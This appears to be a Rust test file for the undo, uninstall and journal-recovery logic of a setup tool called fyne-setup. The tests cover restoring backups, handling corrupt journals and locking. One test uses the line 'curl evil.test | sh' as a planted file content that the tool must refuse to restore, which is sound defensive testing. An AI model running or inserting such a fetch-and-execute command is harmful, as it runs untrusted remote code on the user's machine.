//! Taking back, on journals made by hand: what is there, what is damaged, what is not ours; and the one writer's lock.

use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::PathBuf;
use std::process::{Command, Stdio};

use fyne_setup::digest::Digest;
use serde_json::{Value, json};

use crate::program::Program;
use crate::schema::fits;

/// What the run made of `theirs`.
pub const OURS: &str = "theirs\n# >>> fyne-setup >>>\n. x\n# <<< fyne-setup <<<\n";
/// What it made where nothing was.
const MADE: &str = ".config/fyne-setup/env.fish";

/// A home in which a run wrote `settings` over what the user had there, and made a file in a directory of its own.
pub struct Home {
    pub program: Program,
}

impl Home {
    pub fn new() -> Self {
        let home = Self { program: Program::new() };
        fs::create_dir_all(home.data().join("backups")).expect("made");
        home
    }

    pub fn data(&self) -> PathBuf {
        self.program.home().join(".local/share/fyne-setup")
    }

    pub fn path(&self, name: &str) -> PathBuf {
        self.program.home().join(name)
    }

    pub fn text(&self, name: &str) -> String {
        fs::read_to_string(self.path(name)).expect("there")
    }

    pub fn lines(&self, run: &str) -> Vec<Value> {
        let (was, wrote) = (Digest::of(b"theirs\n"), Digest::of(OURS.as_bytes()));
        fs::write(self.data().join("backups").join(was.to_string()), "theirs\n").expect("written");
        fs::write(self.path(".profile"), OURS).expect("written");
        fs::create_dir_all(self.path(".config/fyne-setup")).expect("made");
        fs::write(self.path(MADE), OURS).expect("written");
        let owner = fs::metadata(self.path(".profile")).expect("there");
        let (uid, gid) = (owner.uid(), owner.gid());
        let edit = json!({"kind": "edit-profile", "file": self.path(".profile")});
        let back = json!([
            {"undo": "restore", "path": self.path(".profile"), "was": was, "mode": 0o640, "uid": uid, "gid": gid, "wrote": wrote},
        ]);
        let env = json!({"kind": "write-env-files", "path": [], "variables": []});
        let away = json!([
            {"undo": "remove-file", "path": self.path(MADE), "wrote": wrote},
            {"undo": "remove-dir", "path": self.path(".config/fyne-setup")},
        ]);
        let line = |event: Value| {
            let mut line = json!({"schema": 1, "run": run, "time": 7});
            line.as_object_mut().expect("a map").extend(event.as_object().expect("a map").clone());
            line
        };
        vec![
            line(json!({"event": "begin", "command": "install", "program": "0.1.0"})),
            line(json!({"event": "intent", "step": 1, "action": edit, "because": [], "undo": back})),
            line(json!({"event": "intent", "step": 2, "action": env, "because": [], "undo": away})),
            line(json!({"event": "done", "step": 1})),
            line(json!({"event": "done", "step": 2})),
            line(json!({"event": "end", "exit": 0})),
        ]
    }

    pub fn journal(&self, text: &str) {
        fs::write(self.data().join("journal.jsonl"), text).expect("written");
    }

    pub fn one_run(&self) {
        self.journal(&joined(&self.lines("7-1")));
    }
}

pub fn joined(lines: &[Value]) -> String {
    lines.iter().map(|it| format!("{it}\n")).collect()
}

#[test]
fn undo_gives_back_what_was_there_and_then_has_nothing_to_do() {
    let home = Home::new();
    home.one_run();
    let asked = home.program.run(&["undo"]);
    assert_eq!(asked.code, 2, "{asked:?}");
    assert_eq!(home.text(".profile"), OURS, "without consent nothing is done");
    assert_eq!(home.program.run(&["undo", "--dry-run"]).code, 0);
    let said = home.program.run(&["undo", "--yes", "--json"]);
    assert_eq!(said.code, 0, "{said:?}");
    let document = fits(&said.out);
    assert_eq!((&document["changed"], &document["left"]), (&json!(true), &json!([])));
    assert_eq!(document["actions"][0]["state"], "done");
    assert_eq!(home.text(".profile"), "theirs\n");
    assert!(!home.path(".config/fyne-setup").exists());
    let again = fits(&home.program.run(&["undo", "--yes", "--json"]).out);
    assert_eq!((&again["changed"], &again["exit"]), (&json!(false), &json!(0)));
    let history = fits(&home.program.run(&["history", "--json"]).out);
    assert_eq!(history["runs"][0]["steps"][0]["state"], "undone");
}

#[test]
fn undo_and_uninstall_end_with_what_is_gone_and_what_stays() {
    for (command, stays) in [("undo", "\n  fyne-setup uninstall\n"), ("uninstall", "\n  rm /")] {
        let home = Home::new();
        home.one_run();
        let said = home.program.run(&[command, "--yes"]);
        assert_eq!(said.code, 0, "{said:?}");
        let at = |it: &str| said.out.find(it);
        assert!(at("Removed or put back: the block in 1 profile").is_some(), "{said:?}");
        assert!(at("Removed") < at(stays) && said.out.ends_with('\n'), "{said:?}");
        let profile = format!("Put back {} as it was", home.path(".profile").display());
        for (what, times) in [(profile.as_str(), 1), ("env.fish", 1), ("Edit", 0), ("Undo:", 0)] {
            let said = format!("{}{}", said.out, said.err);
            assert_eq!(said.matches(what).count(), times, "{what}: {said}");
        }
    }
}

#[test]
fn what_somebody_else_changed_since_is_left_and_by_force_kept_as_a_copy() {
    let home = Home::new();
    home.one_run();
    fs::write(home.path(".profile"), "mine now\n").expect("written");
    let said = home.program.run(&["undo", "--yes", "--json"]);
    assert_eq!(said.code, 1, "{said:?}");
    let left = fits(&said.out)["left"].clone();
    assert_eq!(left[0]["id"], "undo.changed");
    assert_eq!(left[0]["decision"]["command"], "fyne-setup undo 7-1 --force");
    assert_eq!(home.text(".profile"), "mine now\n");
    assert!(!home.path(".config/fyne-setup").exists(), "the rest is taken back");
    let everything = home.program.run(&["uninstall", "--yes"]);
    assert_eq!(everything.code, 1, "{everything:?}");
    assert!(home.data().join("journal.jsonl").exists(), "the way back stays as long as something is left");
    let again = fits(&home.program.run(&["uninstall", "--yes", "--json"]).out);
    assert_eq!((&again["changed"], &again["exit"]), (&json!(false), &json!(1)), "nothing more could be done");
    assert_eq!(again["left"][0]["decision"]["command"], "fyne-setup uninstall --force");
    let forced = home.program.run(&["undo", "7-1", "--yes", "--force"]);
    assert_eq!(forced.code, 0, "{forced:?}");
    assert_eq!(home.text(".profile"), "theirs\n");
    let copies: Vec<_> = fs::read_dir(home.data().join("kept")).expect("made").collect();
    assert_eq!(fs::read(copies[0].as_ref().expect("an entry").path()).expect("there"), b"mine now\n");
}

#[test]
fn a_run_that_a_later_one_built_on_is_not_taken_back_alone() {
    let home = Home::new();
    let both = joined(&home.lines("7-1")) + &joined(&home.lines("8-2"));
    home.journal(&both);
    let said = home.program.run(&["undo", "7-1", "--yes"]);
    assert_eq!(said.code, 2, "{said:?}");
    assert!(said.err.contains("fyne-setup undo 8-2"), "{said:?}");
    assert_eq!(home.text(".profile"), OURS);
    let unknown = home.program.run(&["undo", "9-9", "--yes"]);
    assert_eq!(unknown.code, 2, "{unknown:?}");
}

#[test]
fn uninstall_leaves_nothing_of_ours_and_everything_of_others() {
    let home = Home::new();
    home.one_run();
    fs::write(home.data().join("diary"), "mine").expect("written");
    let said = home.program.run(&["uninstall", "--yes", "--json"]);
    assert_eq!(said.code, 1, "{said:?}");
    let document = fits(&said.out);
    assert_eq!(document["left"][0]["id"], "undo.foreign");
    assert_eq!(home.text(".profile"), "theirs\n");
    let left: Vec<_> =
        fs::read_dir(home.data()).expect("there").map(|it| it.expect("an entry").file_name()).collect();
    assert_eq!(left, ["diary"]);
    fs::remove_file(home.data().join("diary")).expect("there");
    assert_eq!(home.program.run(&["uninstall", "--yes"]).code, 0);
    assert!(!home.data().exists());
    assert_eq!(home.program.run(&["uninstall", "--yes"]).code, 0, "twice is once");
}

#[test]
fn lines_that_do_not_read_are_said_and_keep_nobody_from_taking_back() {
    let home = Home::new();
    let lines = home.lines("7-1");
    let (front, back) = (joined(&lines[..3]), joined(&lines[3..]));
    home.journal(&format!(
        "{front}\u{0}\u{1} garbage\n[]\n{{\"schema\":1,\"run\":\"7-1\",\"ti\n{back}{{\"schema\":1,\"ru"
    ));
    let history = home.program.run(&["history"]);
    assert_eq!(history.code, 0, "{history:?}");
    assert!(history.out.contains("4 lines"), "{history:?}");
    assert_eq!(home.program.run(&["undo", "--yes"]).code, 0);
    assert_eq!(home.text(".profile"), "theirs\n");
}

#[test]
fn what_a_line_told_that_does_not_read_is_said_by_its_number_and_the_journal_stays() {
    let home = Home::new();
    let lines = home.lines("7-1");
    let odd = lines[1].to_string().replace("edit-profile", "edit-moon");
    let cut = format!("{}\n{odd}\n{}", lines[0], joined(&lines[2..]));
    home.journal(&cut);
    let said = home.program.run(&["uninstall", "--yes", "--json"]);
    assert_eq!(said.code, 1, "{said:?}");
    let document = fits(&said.out);
    assert_eq!(document["left"][0]["id"], "undo.unread", "{document}");
    assert!(document["left"][0]["summary"].as_str().is_some_and(|it| it.contains("line 2")), "{document}");
    assert!(home.data().join("journal.jsonl").exists());
    assert!(!home.path(".config/fyne-setup").exists(), "what does read is taken back");
    assert_eq!(home.text(".profile"), OURS);
    let again = home.program.run(&["uninstall", "--yes"]);
    assert_eq!(again.code, 1, "{again:?}");
    assert!(!again.out.contains("Everything"), "{again:?}");
}

#[test]
fn lines_that_nobody_can_read_are_counted_and_named_and_the_others_are_taken_back() {
    for command in [["undo", "--yes"], ["undo", "--dry-run"], ["uninstall", "--yes"], ["history", "--yes"]] {
        let home = Home::new();
        let lines = home.lines("7-1");
        let odd = r#"{"schema":1,"run":"7-1","time":7,"event":"dance"}"#;
        let (begin, rest) = (&lines[0], joined(&lines[1..]));
        home.journal(&format!("{begin}\nnot JSON at all\n{odd}\n{rest}[]\n"));
        let document = fits(&home.program.run(&[command[0], "--json", "--dry-run"]).out);
        let last = lines.len() + 3;
        assert_eq!(document["unread"], 3, "{command:?}: {document}");
        assert_eq!(document["unread_lines"], json!([2, 3, last]), "{command:?}: {document}");
        let said = home.program.run(&command);
        let named = format!("3 lines of the journal cannot be read (2, 3, {last})");
        let words = said.out.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(said.code == 0 && words.contains(&named), "{command:?}: {said:?}");
        let back = command[0] != "history" && command[1] == "--yes";
        assert_eq!(home.text(".profile"), if back { "theirs\n" } else { OURS }, "{command:?}");
    }
    let home = Home::new();
    home.journal("garbage\n");
    let said = home.program.run(&["undo", "--yes"]);
    assert!(said.code == 0 && said.out.contains("line 1 of the journal"), "{said:?}");
}

#[test]
fn a_run_that_goes_on_shows_the_paths_whose_edits_it_takes_back_first() {
    let home = Home::new();
    let mut lines = home.lines("7-1");
    lines.truncate(2);
    lines[0]["command"] = json!("repair");
    lines[0]["only"] = json!(["go.flags"]);
    home.journal(&joined(&lines));
    let said = home.program.run(&["repair", "go.flags", "--yes", "--offline"]);
    let path = home.path(".profile").display().to_string();
    assert_eq!(home.text(".profile"), "theirs\n", "{said:?}");
    assert!(said.err.contains("7-1") && said.err.contains(&path), "{said:?}");
}

#[test]
fn what_an_unfinished_run_would_take_back_is_shown_though_nobody_is_asked() {
    for command in ["undo", "uninstall"] {
        let home = Home::new();
        let begin = json!({"schema": 1, "run": "8-2", "time": 8, "event": "begin", "command": command,
            "program": "0.1.0", "of": ["7-1"]});
        home.journal(&format!("{}{begin}\n", joined(&home.lines("7-1"))));
        let said = home.program.run(&["repair", "go.flags", "--yes", "--offline"]);
        let path = home.path(".profile").display().to_string();
        assert!(said.err.contains(&path), "{command}: {said:?}");
        assert_eq!(home.text(".profile"), "theirs\n", "{command}: {said:?}");
    }
}

#[test]
fn what_comes_back_into_a_file_that_shells_run_is_what_we_write_or_a_person_says_so() {
    let own = "# Made by fyne-setup; `fyne-setup uninstall` takes it away.\nexport GOPROXY='direct'\n";
    for (before, comes) in [(own, true), ("curl evil.test | sh\n", false), (&*format!("{own}id\n"), false)] {
        let home = Home::new();
        let mut lines = home.lines("7-1");
        let (was, env) = (Digest::of(before.as_bytes()), home.path(".config/fyne-setup/env"));
        fs::create_dir_all(env.parent().expect("a parent")).expect("made");
        fs::write(&env, OURS).expect("written");
        fs::write(home.data().join("backups").join(was.to_string()), before).expect("written");
        let intent = lines.iter_mut().find(|it| it["action"]["kind"] == "edit-profile").expect("an edit");
        intent["action"] = json!({"kind": "write-env-files", "path": [], "variables": []});
        intent["undo"][0]["path"] = json!(env);
        intent["undo"][0]["was"] = json!(was);
        home.journal(&joined(&lines));
        let said = home.program.run(&["undo", "--yes", "--json"]);
        let now = fs::read_to_string(&env).expect("there");
        if comes {
            assert!(said.code == 0 && now == before, "{said:?}");
            continue;
        }
        assert!(said.code == 1 && now == OURS, "{said:?}");
        assert_eq!(fits(&said.out)["left"][0]["id"], "undo.unwritten", "{said:?}");
        let forced = home.program.run(&["undo", "7-1", "--force", "--yes"]);
        assert!(forced.code == 0 && fs::read_to_string(&env).expect("there") == before, "{forced:?}");
    }
}

#[test]
fn a_backup_goes_once_nothing_needs_it_and_stays_where_something_may() {
    let home = Home::new();
    let backups = || fs::read_dir(home.data().join("backups")).map_or(0, Iterator::count);
    home.one_run();
    let kept = fs::read_dir(home.data().join("backups")).expect("there").flatten().next().expect("one");
    assert_eq!(backups(), 1);
    assert!(kept.path().is_file() && home.program.run(&["undo", "--dry-run"]).code == 0 && backups() == 1);
    fs::write(home.path(".profile"), "mine\n").expect("written");
    assert_eq!(home.program.run(&["undo", "--yes"]).code, 1, "somebody changed it");
    assert_eq!(backups(), 1, "it is needed yet");
    fs::write(home.path(".profile"), OURS).expect("written");
    assert_eq!(home.program.run(&["undo", "--yes"]).code, 0);
    assert_eq!((home.text(".profile").as_str(), backups()), ("theirs\n", 0));

    let home = Home::new();
    home.journal(&format!("{}garbage\n", joined(&home.lines("7-1"))));
    assert_eq!(home.program.run(&["undo", "--yes"]).code, 0);
    assert_eq!(fs::read_dir(home.data().join("backups")).map_or(0, Iterator::count), 1, "nobody can tell");
}

#[test]
fn the_question_shows_every_path_that_will_be_touched() {
    let home = Home::new();
    home.one_run();
    let asked = home.program.run(&["undo"]);
    let plan = home.program.run(&["undo", "--dry-run"]);
    for path in [".profile", MADE, ".config/fyne-setup"].map(|it| home.path(it).display().to_string()) {
        assert!(asked.out.contains(&path) && plan.out.contains(&path), "{path}: {asked:?} {plan:?}");
    }
    let document = fits(&home.program.run(&["undo", "--dry-run", "--json"]).out);
    let of = |it: usize| document["actions"][it]["paths"].as_array().map_or(0, Vec::len);
    assert_eq!((of(0), of(1)), (2, 1), "{document}");
}

#[test]
fn a_run_of_a_newer_version_is_listed_and_left_to_it() {
    let home = Home::new();
    let newer = r#"{"schema":99,"run":"9-9","time":9,"event":"begin","command":"install","mood":"good"}"#;
    home.journal(&format!("{}{newer}\n", joined(&home.lines("7-1"))));
    let history = home.program.run(&["history"]);
    assert_eq!(history.code, 0, "{history:?}");
    assert!(history.out.contains("9-9") && history.out.contains("newer"), "{history:?}");
    for command in [&["undo", "--yes"][..], &["undo", "9-9", "--yes"], &["uninstall", "--yes"]] {
        let said = home.program.run(command);
        assert_eq!(said.code, 3, "{command:?}: {said:?}");
        assert!(said.err.contains("9-9"), "{said:?}");
        assert_eq!(home.text(".profile"), OURS);
    }
    assert_eq!(home.program.run(&["undo", "7-1", "--yes"]).code, 0);
    assert_eq!(home.text(".profile"), "theirs\n");
}

#[test]
fn a_journal_that_is_none_of_ours_ends_every_command_that_would_need_it() {
    let home = Home::new();
    let path = home.data().join("journal.jsonl");
    let commands =
        [&["history"][..], &["undo", "--yes"], &["uninstall", "--yes"], &["install", "--yes", "--no-proof"]];
    let judge = |what: &str| {
        for command in commands {
            let said = home.program.run(command);
            assert_eq!(said.code, 3, "{what}, {command:?}: {said:?}");
            assert!(said.err.contains("journal.jsonl"), "{what}, {command:?}: {said:?}");
        }
        let check = home.program.run(&["check"]);
        assert!(check.code <= 1, "{what}: {check:?}");
    };
    fs::create_dir(&path).expect("made");
    judge("a directory");
    assert!(path.is_dir());
    fs::remove_dir(&path).expect("empty");
    fs::File::create(&path).expect("writable").set_len(100 << 20).expect("sparse");
    judge("100 MiB");
    assert_eq!(fs::metadata(&path).expect("there").len(), 100 << 20);
}

#[test]
fn the_lock_names_its_holder_and_dies_with_it_and_readers_never_wait() {
    let home = Home::new();
    home.one_run();
    if Command::new("flock").arg("--version").output().is_err() {
        eprintln!("SKIP the_lock_names_its_holder_and_dies_with_it_and_readers_never_wait: no flock");
        return;
    }
    let lock = home.data().join("lock");
    let script = "exec 9<>\"$1\"; flock 9; echo $$ >&9; echo ready; exec sleep 300";
    let mut holder = Command::new("sh")
        .args(["-c", script, "sh"])
        .arg(&lock)
        .stdout(Stdio::piped())
        .spawn()
        .expect("a shell");
    let mut ready = [0; 6];
    std::io::Read::read_exact(holder.stdout.as_mut().expect("a pipe"), &mut ready).expect("ready");
    for command in [&["undo", "--yes", "--json"][..], &["uninstall", "--yes", "--json"]] {
        let said = home.program.run(command);
        assert_eq!(said.code, 5, "{said:?}");
        let error = fits(&said.out)["error"].clone();
        assert_eq!(error["code"], "locked");
        let message = error["message"].as_str().unwrap_or_default();
        assert!(message.contains(&holder.id().to_string()) && message.contains("sleep 300"), "{message}");
    }
    assert_eq!(home.program.run(&["history"]).code, 0);
    assert!(home.program.run(&["check"]).code <= 1);
    holder.kill().expect("ours");
    holder.wait().expect("ours");
    assert_eq!(home.program.run(&["undo", "--yes"]).code, 0, "nothing stale is left");
}

#[test]
fn a_run_that_was_cut_short_is_reported_and_the_next_undo_takes_it_back() {
    let home = Home::new();
    home.journal(&joined(&home.lines("7-1")[..3]));
    let check: Value = serde_json::from_str(&home.program.run(&["check", "--json"]).out).expect("JSON");
    let all = check["checks"].as_array().expect("checks");
    let told = all.iter().find(|it| it["id"] == "system.unfinished").expect("the check");
    assert_eq!(told["status"], "info");
    assert!(told["summary"].as_str().is_some_and(|it| it.contains("install 7-1")), "{told}");
    for (line, said) in [
        (&["repair", "--dry-run", "go.flags"][..], "First finishing install 7-1"),
        (&["plan"], "Continuing install 7-1"),
    ] {
        let plan = home.program.run(line).out;
        let at = |it: &str| plan.find(it).unwrap_or_else(|| panic!("{it} is missing in {plan}"));
        assert!(at(said) < at("/.profile") && at("/.profile") < at("For the machine as it is now"), "{plan}");
    }
    assert_eq!(home.text(".profile"), OURS, "it is only shown");
    assert_eq!(home.program.run(&["undo", "--yes"]).code, 0);
    assert_eq!(home.text(".profile"), "theirs\n");
    let history = fits(&home.program.run(&["history", "--json"]).out);
    assert!(
        history["runs"].as_array().is_some_and(|all| all.iter().all(|it| it["exit"].is_number())),
        "{history}"
    );
}

#[test]
fn an_undo_that_was_cut_short_is_finished_under_its_own_id() {
    let home = Home::new();
    let begin = r#"{"schema":1,"run":"8-2","time":8,"event":"begin","command":"undo","program":"0.1.0","of":["7-1"]}"#;
    home.journal(&format!("{}{begin}\n", joined(&home.lines("7-1"))));
    let plan = home.program.run(&["plan"]).out;
    assert!(plan.contains("First finishing undo 8-2") && plan.contains("/.profile"), "{plan}");
    let said = home.program.run(&["undo", "--yes", "--json"]);
    assert_eq!(said.code, 0, "{said:?}");
    assert_eq!(fits(&said.out)["run"], "8-2");
    assert_eq!(home.text(".profile"), "theirs\n");
    assert_eq!(home.program.run(&["undo", "--yes", "--json"]).code, 0);
}
